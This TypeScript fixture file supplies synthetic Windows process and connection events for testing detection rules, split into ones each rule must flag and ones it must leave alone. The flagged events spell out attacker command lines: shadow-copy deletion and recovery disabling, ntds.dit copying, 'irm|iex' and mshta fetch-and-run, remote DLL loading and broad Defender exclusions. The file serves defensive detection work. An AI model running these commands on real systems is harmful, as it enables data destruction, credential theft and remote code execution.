import type { Event } from './match-event'

/** What a rule must find, and the honest activity next to it that it must leave alone. */
interface Examples {
  readonly finds: readonly Event[]
  readonly leaves: readonly Event[]
}

const SYSTEM32 = 'C:\\Windows\\System32\\'

/** Events made up for the starter rules, by file name without its extension. */
export const EXAMPLES: Readonly<Record<string, Examples>> = {
  net_connection_win_susp_smtp_non_mail_process: {
    finds: [
      connection(`${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`, '203.0.113.5', 587),
      connection('C:\\Users\\a\\AppData\\Roaming\\svc.exe', '2001:db8::5', 465),
    ],
    leaves: [
      connection('C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe', '203.0.113.5', 587),
      connection('C:\\Users\\a\\svc.exe', '127.0.0.1', 25),
      connection('C:\\Users\\a\\svc.exe', '203.0.113.5', 443),
      { ...connection('C:\\Users\\a\\svc.exe', '203.0.113.5', 25), Initiated: 'false' },
    ],
  },
  net_connection_win_susp_admin_port_from_writable_folder: {
    finds: [connection('C:\\Users\\a\\Downloads\\scan.exe', '10.0.0.7', 445)],
    leaves: [
      connection(`${SYSTEM32}mstsc.exe`, '10.0.0.7', 3389),
      connection(
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
        '10.0.0.7',
        445,
      ),
    ],
  },
  net_connection_win_susp_webhook_service_script_host: {
    finds: [
      {
        ...connection(`${SYSTEM32}wscript.exe`, '203.0.113.5', 443),
        DestinationHostname: 'api.telegram.org',
      },
    ],
    leaves: [
      {
        ...connection('C:\\Program Files\\Mozilla Firefox\\firefox.exe', '203.0.113.5', 443),
        DestinationHostname: 'discord.com',
      },
      {
        ...connection(`${SYSTEM32}wscript.exe`, '203.0.113.5', 443),
        DestinationHostname: 'notdiscord.com',
      },
    ],
  },
  net_connection_win_susp_process_without_network_role: {
    finds: [connection(`${SYSTEM32}gpupdate.exe`, '203.0.113.5', 443)],
    leaves: [
      connection(`${SYSTEM32}gpupdate.exe`, '10.0.0.2', 389),
      connection(`${SYSTEM32}gpupdate.exe`, 'fe80::2', 389),
    ],
  },
  proc_creation_win_browsers_remote_debugging_hidden: {
    finds: [
      start(
        '\\Chrome\\chrome.exe',
        'chrome.exe --headless --remote-debugging-port=9222',
        `${SYSTEM32}cmd.exe`,
      ),
    ],
    leaves: [
      start(
        '\\Chrome\\chrome.exe',
        'chrome.exe --headless --remote-debugging-port=0',
        'C:\\b\\chromedriver.exe',
      ),
      start('\\Chrome\\chrome.exe', 'chrome.exe --restore-last-session'),
    ],
  },
  proc_creation_win_cmd_susp_remote_output_redirect: {
    finds: [
      start(
        '\\cmd.exe',
        'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1763800000.1 2>&1',
        `${SYSTEM32}wbem\\WmiPrvSE.exe`,
      ),
    ],
    leaves: [
      start('\\cmd.exe', 'cmd.exe /c dir 1> C:\\out.txt 2>&1', `${SYSTEM32}wbem\\WmiPrvSE.exe`),
    ],
  },
  proc_creation_win_renamed_transfer_utility: {
    finds: [
      { ...start('\\u.exe', 'u.exe -o a https://example.com/a'), OriginalFileName: 'curl.exe' },
    ],
    leaves: [
      { ...start('\\curl.exe', 'curl https://example.com/a'), OriginalFileName: 'curl.exe' },
    ],
  },
  proc_creation_win_rundll32_regsvr32_remote_library: {
    finds: [
      start('\\rundll32.exe', 'rundll32.exe \\\\203.0.113.5\\s\\a.dll,Run'),
      start('\\regsvr32.exe', 'regsvr32 /s \\\\files.example.com@SSL\\DavWWWRoot\\a.dll'),
    ],
    leaves: [
      start('\\rundll32.exe', 'rundll32 printui.dll,PrintUIEntry /in /n \\\\10.0.0.5\\printer'),
      start('\\rundll32.exe', 'rundll32.exe davclnt.dll,DavSetCookie files@SSL\\ https://files/'),
      start('\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL'),
    ],
  },
  proc_creation_win_sc_susp_service_binary_path: {
    finds: [start('\\sc.exe', 'sc create upd binPath= "cmd.exe /c C:\\a.bat" start= auto')],
    leaves: [start('\\sc.exe', 'sc create agent binPath= "C:\\Program Files\\Agent\\agent.exe"')],
  },
  proc_creation_win_scrcons_susp_child_process: {
    finds: [start('\\cmd.exe', 'cmd /c a.bat', `${SYSTEM32}wbem\\scrcons.exe`)],
    leaves: [start('\\WerFault.exe', 'WerFault.exe -u', `${SYSTEM32}wbem\\scrcons.exe`)],
  },
  proc_creation_win_susp_defender_exclusion_broad: {
    finds: [
      start('\\powershell.exe', 'powershell Add-MpPreference -ExclusionPath C:\\'),
      start('\\powershell.exe', "powershell Add-MpPreference -ExclusionPath 'C:\\' -Force"),
      start('\\powershell.exe', 'powershell Set-MpPreference -ExclusionExtension exe'),
    ],
    leaves: [
      start('\\powershell.exe', 'powershell Add-MpPreference -ExclusionPath "D:\\Databases\\sql"'),
      start('\\powershell.exe', 'powershell Remove-MpPreference -ExclusionPath C:\\'),
    ],
  },
  proc_creation_win_susp_domain_trust_enumeration: {
    finds: [
      start('\\nltest.exe', 'nltest /domain_trusts /all_trusts'),
      start('\\nltest.exe', 'nltest -domain_trusts'),
      start('\\a.exe', 'a.exe -f (objectcategory=trusteddomain)'),
    ],
    leaves: [start('\\nltest.exe', 'nltest /sc_query:example.com')],
  },
  proc_creation_win_susp_recovery_inhibition: {
    finds: [
      start('\\vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
      start('\\vssadmin.exe', 'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB'),
      start('\\wbem\\WMIC.exe', 'wmic shadowcopy delete'),
      start('\\wbadmin.exe', 'wbadmin delete catalog -quiet'),
      start('\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
    ],
    leaves: [
      start('\\vssadmin.exe', 'vssadmin list shadows'),
      start('\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled Yes'),
    ],
  },
  proc_creation_win_susp_run_dialog_web_script: {
    finds: [
      start('\\mshta.exe', 'mshta https://example.com/verify', 'C:\\Windows\\explorer.exe'),
      start(
        '\\powershell.exe',
        'powershell -w h "irm https://example.com/a|iex"',
        'C:\\Windows\\explorer.exe',
      ),
    ],
    leaves: [
      start('\\powershell.exe', 'powershell -File C:\\a.ps1', 'C:\\Windows\\explorer.exe'),
      start('\\powershell.exe', 'powershell "irm https://example.com/a|iex"', `${SYSTEM32}cmd.exe`),
    ],
  },
  proc_creation_win_susp_shadow_copy_credential_store_read: {
    finds: [
      start(
        '\\cmd.exe',
        'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit c:\\a',
      ),
    ],
    leaves: [start('\\cmd.exe', 'cmd /c dir C:\\Windows\\NTDS\\ntds.dit')],
  },
}

function connection(image: string, address: string, port: number): Event {
  return { Image: image, DestinationIp: address, DestinationPort: String(port), Initiated: 'true' }
}

function start(program: string, commandLine: string, parent = `${SYSTEM32}cmd.exe`): Event {
  return { Image: `C:\\Windows\\System32${program}`, CommandLine: commandLine, ParentImage: parent }
}
